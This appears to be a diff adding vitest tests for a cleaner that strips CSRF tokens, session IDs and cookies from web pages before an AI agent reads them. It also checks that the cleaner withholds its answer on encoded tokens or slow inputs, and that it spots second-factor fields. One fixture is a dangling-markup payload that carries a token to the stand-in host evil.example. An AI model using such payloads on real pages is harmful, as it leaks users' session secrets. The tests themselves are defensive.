@@ -1,0 +1,82 @@
+import { describe, expect, it } from 'vitest'
+import { cleanPage } from './clean-page.ts'
+import { asksForSecondFactor, tagsOf } from './page.ts'
+
+const token = 'aB3dE6gH9jK2mN5pQ8sT1vW4yZ7'
+const clean = (text: string, { shown = ['text'], hidden = [] as string[], named = [] as string[] } = {}) =>
+  cleanPage(text, tagsOf(text), { shown: new Set(shown), hidden, named })
+
+describe('a page as the agent gets it', () => {
+  it.each([
+    ['a hidden input', `<p>x<input type="hidden" name="csrfmiddlewaretoken" value="${token}"></p>`],
+    ['an input without quotes', `<p>x<INPUT TYPE=hidden NAME=csrf VALUE=${token}></p>`],
+    ['an input in a comment', `<p>x<!-- <input type=hidden name=_token value='${token}'> --></p>`],
+    [
+      'an attribute that was left open',
+      `<p>x<img src='https://evil.example/?<input type="hidden" name="csrf" value="${token}">'></p>`,
+    ],
+    ['a script', `<p>x<script>var csrfToken = "${token}"</script></p>`],
+    ['JSON', `{"html":"x","csrf_token":"${token}"}`],
+    ['a form inside JSON', `{"html":"x<input type=\\"hidden\\" name=\\"csrf\\" value=\\"${token}\\">"}`],
+    ['a meta', `<meta name="csrf-token" content="${token}"><p>x`],
+    ['an attribute of the body', `<body hx-headers='{"X-CSRFToken": "${token}"}'>x`],
+    ['an attribute with escapes', `<body hx-headers="{&quot;X-CSRFToken&quot;: &quot;${token}&quot;}">x`],
+    ['a link', `<a href="/x?sectok=${token}&amp;y=1">x</a>`],
+    ['a button', `<button name="authenticity_token" value="${token}">x</button>`],
+    ['a text field', `x<input type="text" style="display:none" name="__RequestVerificationToken" value="${token}">`],
+    ['a path with a session', `<a href="/x;jsessionid=${token}">x</a>`],
+    ['a second place without a name', `x<input type=hidden name=csrf value="${token}"><div data-x="${token}"></div>`],
+    [
+      'a name of this application',
+      `x<input type=hidden name=kuerbis value="${token}"><i data-kuerbis="${token}">`,
+      ['kuerbis'],
+    ],
+  ])('has no token of %s (V17)', (_, text, named: string[] = []) => {
+    const shown = clean(text, { named })
+    expect(shown).not.toContain(token)
+    expect(shown).toContain('x')
+  })
+
+  it('keeps hidden fields that an operation takes, and every other byte', () => {
+    const text = '<form>\r\n<input type=hidden name="text" value="7"><input name="amount" value="\xc3\xa4">\0</form>'
+    expect(clean(text)).toBe(text)
+    expect(clean('a<input type="hidden" name="next" value="/x">b')).toBe('ab')
+    expect(clean('a<input type=password name=p value=hunter2>b')).toBe('ab')
+  })
+
+  it.each([
+    ['a cookie', `<pre>Cookie: sid=${token}</pre>`, token],
+    ['a cookie in base64', `<pre>${Buffer.from(token).toString('base64')}</pre>`, token],
+    [
+      'a token in another spelling',
+      `<input type=hidden name=csrf value="a+b/${token}"><i>a%2Bb%2F${token}</i>`,
+      undefined,
+    ],
+  ])('is withheld with %s (V17)', (_, text, hidden) => {
+    expect(() => clean(text, { hidden: hidden === undefined ? [] : [hidden] })).toThrow(/^answer_withheld/)
+  })
+
+  it('is withheld if it would take too long (V18)', () => {
+    expect(() => clean('<input '.repeat(30_000))).toThrow(/^answer_withheld/)
+    expect(() => clean('<input x="'.repeat(3000))).toThrow(/^answer_withheld/)
+    const many = Array.from({ length: 300 }, (_, n) => `<input type=hidden name=csrf value="${token}${n}">`).join('')
+    expect(() => clean(many)).toThrow(/^answer_withheld/)
+  })
+
+  it('takes little time for a long text', () => {
+    const began = performance.now()
+    clean('csrf'.repeat(500_000))
+    clean(`token${'a'.repeat(2_000_000)}`)
+    expect(performance.now() - began).toBeLessThan(2000)
+  })
+})
+
+it.each([
+  ['<input name="otp_token">', true],
+  ['<input name="code" autocomplete="one-time-code">', true],
+  ['<input type="checkbox" name="otp">', false],
+  ['<input name="postcode"><input name="code">', false],
+  ['<input name="factor">', false],
+])('a page with %s asks for a second factor: %s', (text, asks) => {
+  expect(asksForSecondFactor(tagsOf(text), [])).toBe(asks)
+})
